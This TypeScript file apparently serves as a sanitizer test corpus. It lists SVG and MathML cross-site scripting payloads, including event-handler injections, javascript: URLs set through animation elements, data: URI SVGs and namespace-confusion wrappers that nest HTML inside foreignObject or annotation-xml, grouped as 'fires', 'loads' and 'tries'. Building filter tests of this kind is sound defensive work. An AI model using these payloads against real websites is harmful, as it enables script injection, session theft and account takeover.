import { crossed, family } from "./payload.ts";

const SVG_HOLDERS = ["g", "rect", "circle", "text", "use", "image", "foreignObject", "a", "symbol"];
const MATH_HOLDERS = ["mi", "mo", "mn", "ms", "mtext", "mrow", "maction", "semantics", "annotation", "mglyph"];

/** Markup of HTML may stand there, inside a drawing or a formula. */
const DOORS_BACK = [
  "<svg><foreignObject>%</foreignObject></svg>",
  "<svg><desc>%</desc></svg>",
  "<svg><title>%</title></svg>",
  "<math><mtext>%</mtext></math>",
  "<math><mi>%</mi></math>",
  '<math><annotation-xml encoding="text/html">%</annotation-xml></math>',
  '<math><annotation-xml encoding="application/xhtml+xml">%</annotation-xml></math>',
  "<svg><foreignObject><math><mi>%</mi></math></foreignObject></svg>",
];

export const drawings = family("drawings", {
  fires: [
    '<svg onload="alert(1)"></svg>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><script><![CDATA[alert(1)]]></script></svg>",
    '<svg><image href="x:" onerror="alert(1)"/></svg>',
    ...SVG_HOLDERS.map((name) => `<svg width="20"><${name} onclick="alert(1)"/></svg>`),
    ...MATH_HOLDERS.map((name) => `<math><${name} onclick="alert(1)">x</${name}></math>`),
    ...crossed(DOORS_BACK, ['<img src="x:" onerror="alert(1)">', "<script>alert(1)</script>"], (door, inner) => {
      return door.replace("%", inner);
    }),
  ],
  loads: [
    '<svg><image href="%URL%" width="9" height="9"/></svg>',
    '<svg><image xlink:href="%URL%" width="9" height="9"/></svg>',
    "<svg><style>@import '%URL%';</style></svg>",
    '<svg><script href="%URL%"></script></svg>',
  ],
  tries: [
    '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    '<svg><set onbegin="alert(1)" attributeName="x" to="1" begin="0s"/></svg>',
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">Go</text></a></svg>',
    '<svg><a href="#"><set attributeName="href" to="javascript:alert(1)"/><rect width="99" height="99"/></a></svg>',
    '<svg><a><animate attributeName="xlink:href" from="javascript:alert(1)" to="&"/><text y="9">Go</text></a></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
    '<svg><use href="%URL%.svg#x"/></svg>',
    '<svg><filter id="f"><feImage href="%URL%"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
    '<svg><rect fill="url(%URL%#p)" width="9" height="9"/></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    ...["desc", "title", "marker"].map((name) => `<svg width="20"><${name} onclick="alert(1)"/></svg>`),
    '<svg><discard onbegin="alert(1)"/><animateMotion onend="alert(1)"/></svg>',
    '<img src="data:image/svg+xml,%3Csvg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27alert(1)%27/%3E">',
    '<embed src="data:image/svg+xml,%3Csvg xmlns=%27http://www.w3.org/2000/svg%27 onload=%27alert(1)%27/%3E">',
    '<math><maction actiontype="statusline" href="javascript:alert(1)">x</maction></math>',
    '<math><semantics><annotation-xml encoding="text/plain"><img src="x:" onerror="alert(1)"></annotation-xml></semantics></math>',
  ],
});
